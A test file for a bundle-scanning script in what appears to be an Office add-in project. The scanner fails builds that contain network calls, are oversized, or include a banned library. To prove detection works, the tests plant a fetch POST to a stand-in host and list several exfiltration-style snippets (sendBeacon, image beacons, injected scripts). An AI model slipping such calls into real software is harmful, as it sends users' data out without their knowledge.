import { spawnSync } from "child_process";
import fs from "fs";
import os from "os";
import path from "path";

// scripts/check-bundles.mjs, run as `npm test` runs it, on copies of dist/ made here: a clean one
// passes and prints both bundle sizes; a planted `fetch(` — or any other network API, a bundle over
// its size, a forbidden library — fails it, naming the file and what was found.

const repo = path.resolve(__dirname, "../..");
const script = path.join(repo, "scripts/check-bundles.mjs");

const REQUIRED = [
  "functions.json",
  "functions-sv.json",
  "assets/icon-16.png",
  "assets/icon-32.png",
  "assets/icon-64.png",
  "assets/icon-80.png",
];

// What react-dom 19 carries three times (resource hoisting), as minified in the real bundle.
const REACT_DOM_SCRIPT =
  'bt(a=r.createElement("script")),Ff(a,"link",e),r.head.appendChild(a)),a={type:"script",instance:a};';

let tmp: string;
beforeEach(() => {
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), "si-dist-"));
});
afterEach(() => {
  fs.rmSync(tmp, { recursive: true, force: true });
});

/** A small dist/ that passes: every required file, bundles with harmless code. */
function makeDist(files: Record<string, string> = {}): string {
  const dist = path.join(tmp, "dist");
  const all: Record<string, string> = {
    "functions.js": 'CustomFunctions.associate("SI.CBA",function(){return 1});',
    "taskpane.js": `var x=document.getElementById("root");${REACT_DOM_SCRIPT.repeat(3)}`,
    "taskpane.html":
      '<html><head><script defer src="functions.js"></script><script defer src="taskpane.js"></script></head></html>',
    "manifest.xml":
      '<OfficeApp xmlns="http://schemas.microsoft.com/office/appforoffice/1.1"><SourceLocation DefaultValue="https://localhost:3000/taskpane.html"/></OfficeApp>',
    ...Object.fromEntries(REQUIRED.map((f) => [f, "x"])),
    ...files,
  };
  for (const [name, text] of Object.entries(all)) {
    fs.mkdirSync(path.dirname(path.join(dist, name)), { recursive: true });
    fs.writeFileSync(path.join(dist, name), text);
  }
  return dist;
}

function check(dist: string) {
  const run = spawnSync(process.execPath, [script, dist], { encoding: "utf8" });
  return { code: run.status, out: run.stdout, err: run.stderr };
}

describe("scripts/check-bundles.mjs", () => {
  it("passes a clean dist/ and prints both bundle sizes against their limits", () => {
    const result = check(makeDist());
    expect(result.err).toBe("");
    expect(result.code).toBe(0);
    expect(result.out).toMatch(/^functions\.js: [\d.]+ kB \([\d.]+ KiB\), limit 150\.0 kB$/m);
    expect(result.out).toMatch(/^taskpane\.js: [\d.]+ kB \([\d.]+ KiB\), limit 1500\.0 kB$/m);
  });

  it("fails on a planted fetch( in the task pane bundle, naming file, API and place", () => {
    const clean = makeDist();
    const bundle = path.join(clean, "taskpane.js");
    fs.appendFileSync(
      bundle,
      ';function t(d){return window.fetch("https://example.org/c",{method:"POST",body:d})}'
    );
    const result = check(clean);
    expect(result.code).toBe(1);
    expect(result.err).toContain("taskpane.js makes network requests: fetch( ×1");
    expect(result.err).toContain("window.fetch(");
  });

  it.each([
    ["fetch(", "fetch (url)"],
    ["XMLHttpRequest", "var r=new XMLHttpRequest;r.open('POST',u)"],
    ["WebSocket", "new WebSocket('wss://x')"],
    ["sendBeacon", "navigator.sendBeacon(u,d)"],
    ["EventSource", "new EventSource(u)"],
    ["WebTransport", "new WebTransport(u)"],
    ["RTCPeerConnection", "new RTCPeerConnection(c)"],
    ["importScripts", "self.importScripts(u)"],
    ["new Image(", "(new Image()).src=u+d"],
    ['createElement("script")', "var s=document.createElement('script');s.src=u"],
  ])("fails on %s in functions.js", (api, code) => {
    const result = check(makeDist({ "functions.js": `!function(){${code}}();` }));
    expect(result.code).toBe(1);
    expect(result.err).toContain(`functions.js makes network requests: ${api} ×1`);
  });

  it("lets react-dom's three script insertions through, with the reason, and fails on a fourth", () => {
    expect(check(makeDist()).code).toBe(0);
    const result = check(
      makeDist({ "taskpane.js": REACT_DOM_SCRIPT.repeat(3) + 'd.createElement("script").src=u;' })
    );
    expect(result.code).toBe(1);
    expect(result.err).toContain(
      'taskpane.js has createElement("script") ×4, 3 allowed (react-dom'
    );
  });

  it("scans every script in dist/, a split-off chunk too", () => {
    const result = check(makeDist({ "512.js": "var r=new XMLHttpRequest;" }));
    expect(result.code).toBe(1);
    expect(result.err).toContain("512.js makes network requests: XMLHttpRequest ×1");
  });

  it.each([
    ["functions.js", 150_000, 0],
    ["functions.js", 150_001, 1],
    ["taskpane.js", 1_500_000, 0],
    ["taskpane.js", 1_500_001, 1],
  ])("%s of %d bytes exits %d", (bundle, bytes, code) => {
    const result = check(makeDist({ [bundle]: "/".repeat(bytes) }));
    expect(result.code).toBe(code);
    if (code === 1)
      expect(result.err).toContain(
        `${bundle} is ${(bytes / 1000).toFixed(1)} kB (${bytes} bytes), over its`
      );
  });

  it("still fails on HyperFormula in the pane", () => {
    const result = check(makeDist({ "taskpane.js": 'var e="HyperFormula";' }));
    expect(result.code).toBe(1);
    expect(result.err).toContain("taskpane.js contains HyperFormula");
  });

  // The real build is scanned by `npm test` itself (node scripts/check-bundles.mjs after the
  // build); these tests prove the scan on bundles made to fail, which a fresh clone also has.
});
